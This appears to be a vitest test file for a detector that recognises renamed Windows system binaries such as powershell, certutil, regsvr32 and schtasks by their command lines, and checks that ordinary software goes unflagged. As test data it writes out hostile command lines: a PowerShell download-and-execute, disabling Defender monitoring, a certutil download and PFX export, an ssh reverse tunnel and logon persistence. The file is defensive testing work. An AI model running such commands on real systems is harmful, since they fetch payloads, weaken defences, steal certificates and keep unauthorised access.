import { describe, expect, it } from "vitest";
import { readVectors } from "../src/catalog/vectors.ts";
import type { Request } from "../src/invocations/types.ts";
import { explain } from "../src/pipeline/explain.ts";
import { testCatalog } from "./support/events.ts";

const catalog = testCatalog();

/** A name that nobody knows, where anybody can put a program. */
const COPY = "C:\\Users\\Public\\upd.exe";

function who(request: Request) {
  const [first] = explain({ platform: "windows", ...request }, catalog).explanation.invocations;
  return { entry: first?.binary.by === "behaviour" ? first.binary.entry : undefined, shown: first?.behaviours ?? [] };
}

/** What only one program takes, though no name says who runs. */
const LINES: readonly (readonly [entry: string, rest: string])[] = [
  ["powershell", '-c "iex (iwr http://files.example.net/a.txt -UseBasicParsing).Content"'],
  ["powershell", "-ep bypass -f D:\\kit\\a.ps1"],
  ["powershell", '-w hidden "Set-MpPreference -DisableRealtimeMonitoring $true"'],
  ["powershell", "Start-Process D:\\kit\\a.exe"],
  ["cmd", "/d /c rundll32 D:\\kit\\a.dll,Go"],
  ["cmd", "/q/c copy D:\\kit\\a.bin C:\\ProgramData\\a.exe"],
  ["certutil", "-urlcache -split -f http://files.example.net/a.exe a.exe"],
  ["certutil", "-exportPFX -p kiwi My 0011aabb D:\\k.pfx"],
  ["regsvr32", "/s D:\\kit\\a.dll"],
  ["regasm", "/codebase D:\\kit\\a.dll"],
  ["msiexec", "/y D:\\kit\\a.dll"],
  ["hh", "-decompile D:\\out D:\\kit\\a.chm"],
  ["java", "-jar D:\\kit\\a.jar x"],
  ["ssh", "-N -R 7000:127.0.0.1:3389 ann@192.0.2.8"],
  ["curl", "-s -o C:\\ProgramData\\a.exe http://files.example.net/a.exe"],
  ["schtasks", "/create /tn k /tr D:\\kit\\a.exe /sc onlogon"],
];

describe("a copy that nothing but its line tells", () => {
  it.each(LINES)("is %s: %s", (name, rest) => {
    const logged = who({ image: COPY, commandLine: `${COPY} ${rest}` });
    expect(logged.entry).toBe(`windows/${name}`);
    expect(logged.shown).not.toEqual([]);
    expect(who({ commandLine: `${COPY} ${rest}` }).entry, "as somebody types it").toBe(`windows/${name}`);
  });

  it.each([
    ["powershell", '-c "iex (iwr http://files.example.net/a.txt -UseBasicParsing).Content"'],
    ["certutil", "-urlcache -split -f http://files.example.net/a.exe a.exe"],
    ["regasm", "/codebase D:\\kit\\a.dll"],
    ["msiexec", "/q /i http://files.example.net/a.msi"],
  ])("is %s wherever it lies, and in a batch file: %s", (name, rest) => {
    expect(who({ commandLine: `upd.exe ${rest}` }).entry).toBe(`windows/${name}`);
    const { invocations } = explain(
      { platform: "windows", commandLine: `cmd /c "cd D:\\kit & upd ${rest}"` },
      catalog,
    ).explanation;
    expect(invocations.map(({ binary }) => binary.entry)).toContain(`windows/${name}`);
  });

  it("is known by every third line of the catalogue at least, and seldom taken for another", () => {
    let [lines, known, mistaken] = [0, 0, 0];
    for (const { entry, resolve } of readVectors("catalog"))
      for (const { line } of resolve) {
        const rest = /^(?:"[^"]+"|[^\s"=]+) (.+)$/s.exec(line ?? "")?.[1];
        if (!entry.startsWith("windows/") || rest === undefined || /[|&<>`;]/.test(rest)) continue;
        const found = who({ image: COPY, commandLine: `${COPY} ${rest}` }).entry;
        lines++;
        if (found === entry) known++;
        else if (found !== undefined) mistaken++;
      }
    expect(lines).toBeGreaterThan(1000);
    expect(known / lines).toBeGreaterThan(0.38);
    expect(mistaken / lines).toBeLessThan(0.05);
  });
});

/** Programs that the catalogue does not have, at work where they are at home, after what their makers document. */
const ORDINARY: readonly (readonly [image: string, rest: string])[] = [
  ["C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "/background"],
  [
    "C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\Update\\OneDriveSetup.exe",
    "/update /restart /updateSource:ODU /peruser /childprocess /extractFilesWithLessThreadCount",
  ],
  [
    "C:\\Users\\ann\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
    "--type=renderer --autoplay-policy=no-user-gesture-required --enable-features=x --lang=en",
  ],
  [
    "C:\\Users\\ann\\AppData\\Roaming\\Zoom\\bin\\Installer.exe",
    '/addfwexception --bin_home="C:\\Users\\ann\\AppData\\Roaming\\Zoom\\bin"',
  ],
  ["C:\\Users\\ann\\AppData\\Roaming\\Spotify\\Spotify.exe", "--autostart --minimized"],
  ["C:\\Users\\ann\\AppData\\Local\\GitHubDesktop\\app-3.3.8\\GitHubDesktop.exe", "--squirrel-updated 3.3.8"],
  ["C:\\Users\\ann\\AppData\\Local\\Google\\Update\\GoogleUpdate.exe", "/ua /installsource scheduler"],
  [
    "C:\\Users\\ann\\AppData\\Local\\Temp\\is-4HJ2K.tmp\\setup.tmp",
    '/SL5="$3059C,1234567,831488,C:\\Users\\ann\\Downloads\\setup.exe" /SILENT',
  ],
  [
    "C:\\ProgramData\\Package Cache\\{A1B2C3D4-1111-2222-3333-444455556666}\\VC_redist.x64.exe",
    '/uninstall /quiet /burn.related.upgrade /burn.log.append "C:\\Users\\ann\\AppData\\Local\\Temp\\a.log"',
  ],
  [
    "C:\\Windows\\Temp\\chrome_installer.exe",
    '--install-archive="C:\\Windows\\Temp\\CR_1.tmp\\CHROME.PACKED.7Z" --verbose-logging --do-not-launch-chrome --channel=stable --system-level',
  ],
  [
    "C:\\Windows\\Temp\\EBU1A2B.tmp\\MicrosoftEdgeUpdate.exe",
    '/silent /install "runtime=true&needsadmin=true" /installsource otherinstallcmd',
  ],
  [
    "C:\\Users\\ann\\AppData\\Local\\Programs\\Notion\\Notion.exe",
    "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none",
  ],
  ["C:\\Users\\ann\\AppData\\Local\\Obsidian\\Obsidian.exe", "obsidian://open?vault=work"],
  ["C:\\Users\\ann\\AppData\\Local\\JetBrains\\Toolbox\\apps\\IDEA-U\\ch-0\\bin\\fsnotifier.exe", "C:\\src"],
  ["C:\\Users\\ann\\AppData\\Local\\Postman\\app-10.24\\Postman.exe", "--squirrel-firstrun"],
  [
    "C:\\Users\\ann\\AppData\\Local\\Temp\\nsu5A.tmp\\old-uninstaller.exe",
    "/S /KEEP_APP_DATA _?=C:\\Program Files\\App",
  ],
  ["C:\\Users\\ann\\Downloads\\npp.8.6.2.Installer.x64.exe", "/S"],
  ["C:\\Users\\ann\\Downloads\\SQLServer2022-SSEI-Expr.exe", "/ACTION=Download MEDIAPATH=D:\\sql /QUIET"],
  ["C:\\Users\\ann\\Downloads\\wireshark-4.2.3-x64.exe", "/S /desktopicon=yes"],
  ["C:\\Users\\ann\\Downloads\\AcroRdrDC.exe", "/sAll /rs /msi EULA_ACCEPT=YES"],
  ["C:\\tools\\sysmon\\Sysmon64.exe", "-accepteula -i C:\\tools\\sysmon\\config.xml"],
  ["C:\\tools\\bin\\yq.exe", "eval .spec deploy.yaml"],
  [
    "C:\\tools\\prometheus\\prometheus.exe",
    "--config.file=D:\\prom\\prometheus.yml --storage.tsdb.path=D:\\prom\\data --web.listen-address=:9090",
  ],
  ["C:\\tools\\nginx\\nginx-debug.exe", "-s reload -p C:\\tools\\nginx"],
  ["D:\\SteamLibrary\\steamapps\\common\\Game\\Game.exe", "-windowed -w 1920 -h 1080 -novid"],
  ["D:\\oracle\\product\\19\\bin\\lsnrctl.exe", "start LISTENER"],
  ["D:\\Backup\\VeeamAgent.exe", "/backup job1"],
  ["D:\\Tomcat\\bin\\tomcat9.exe", "//RS//Tomcat9"],
  ["E:\\mssql\\Binn\\sqlservr.exe", "-sMSSQLSERVER"],
  ["E:\\setup.exe", "/unattend:E:\\unattend.xml /noreboot"],
  ["C:\\Jenkins\\workspace\\build\\tools\\protoc.exe", "--proto_path=src --csharp_out=gen src\\api.proto"],
  [
    "C:\\Jenkins\\workspace\\build\\packages\\OpenCover\\tools\\OpenCover.Console.exe",
    '-target:nunit3-console.exe -targetargs:"bin\\Tests.dll" -output:cov.xml -register:user',
  ],
  ["C:\\actions-runner\\bin\\Runner.Worker.exe", "spawnclient 1234 1264"],
  ["C:\\Users\\ann\\scoop\\apps\\ripgrep\\current\\rg.exe", "-n --hidden TODO src"],
  ["C:\\Users\\ann\\.cargo\\bin\\rustup.exe", "update stable"],
  ["C:\\Users\\ann\\.dotnet\\tools\\dotnet-ef.exe", "migrations add Init --project src\\Api"],
  ["C:\\Users\\ann\\go\\bin\\golangci-lint.exe", "run ./... --timeout 5m"],
  ["C:\\Users\\ann\\AppData\\Local\\Programs\\Python\\Python311\\Scripts\\pytest.exe", "-q tests --maxfail=1"],
  ["C:\\Users\\ann\\AppData\\Local\\Programs\\Python\\Python311\\Scripts\\black.exe", "--check src"],
  ["C:\\Users\\ann\\src\\app\\venv\\Scripts\\celery.exe", "-A app worker -l info --pool=solo"],
  ["C:\\Users\\ann\\src\\app\\bin\\Debug\\net8.0\\App.exe", "--environment Development --urls http://localhost:5000"],
  [
    "C:\\Users\\ann\\AppData\\Local\\Android\\Sdk\\emulator\\emulator.exe",
    "-avd Pixel_6 -netdelay none -netspeed full",
  ],
  ["C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MpDefenderCoreService.exe", "-service"],
  ["C:\\ProgramData\\Lenovo\\ImController\\Plugins\\host.exe", "/clsid {A1B2C3D4-0000-4111-8222-333344445555}"],
  ["C:\\Packages\\Plugins\\Microsoft.Compute.CustomScriptExtension\\1.10.15\\bin\\CustomScriptHandler.exe", "enable"],
  ["C:\\app\\launcher.exe", "-c settings.json -f out.log -v"],
  ["C:\\app\\sync.exe", "copy D:\\data \\\\fs01\\backup /log:C:\\app\\sync.log"],
  ["C:\\app\\loader.exe", '/c "select 1"'],
  ["C:\\app\\tool.exe", "-Command Refresh -Version 2"],
  ["C:\\Users\\ann\\Desktop\\putty-0.80.exe", "-load prod"],
  ["C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\24.020.0128.0003\\FileCoAuth.exe", "-Embedding"],
  ["C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", "/reporting"],
  ["C:\\app\\worker.exe", "--run --file D:\\data\\in.csv --output D:\\data\\out.csv"],
  ["C:\\app\\report.exe", "/c daily /o C:\\reports\\daily.pdf"],
  ["C:\\app\\etl.exe", "-File D:\\in\\orders.csv -Command import"],
  ["C:\\app\\job.exe", "-f nightly.ps1.config"],
];

describe("a program that nobody lists", () => {
  it("is itself though what it hands on, or a script, would be another's line", () => {
    for (const line of [
      "C:\\Users\\Public\\a.exe -socket 192.0.2.8:70 -http http://192.0.2.8:88 -contact tcp",
      "C:\\Users\\Public\\a.exe -r 100M -f gdigrab -framerate 25 -i desktop -c:v libx264 -preset fast o.mp4",
      "C:\\Users\\Public\\a.vbs -ep bypass -f D:\\kit\\a.ps1",
      "psrunner.exe -File C:\\ops\\nightly.ps1",
      '"C:\\Program Files\\Orchard\\orchard.exe" -s D:\\parts\\a.dll',
    ])
      expect(who({ commandLine: line }).entry).toBeUndefined();
  });

  it.each(ORDINARY)("is itself: %s %s", (image, rest) => {
    const commandLine = `"${image}" ${rest}`;
    expect(who({ image, commandLine }).entry).toBeUndefined();
    expect(who({ commandLine }).entry, "as somebody types it").toBeUndefined();
  });

  it("is itself among the temporary files of Linux, too", () => {
    for (const args of [
      ["/tmp/go-build1/b001/exe/main", "-c", "conf.json"],
      ["/tmp/a.test", "-test.timeout=10m0s", "-test.v=true", "-test.run=^TestX$"],
      ["/tmp/.mount_a/AppRun", "--no-sandbox"],
      ["/tmp/runner", "--filter", "smoke", "--output", "junit.xml"],
      ["/tmp/dpkg-deb", "--control", "/tmp/a.deb", "/tmp/ci"],
    ])
      expect(who({ platform: "linux", image: args[0] ?? "", args }).entry).toBeUndefined();
  });
});
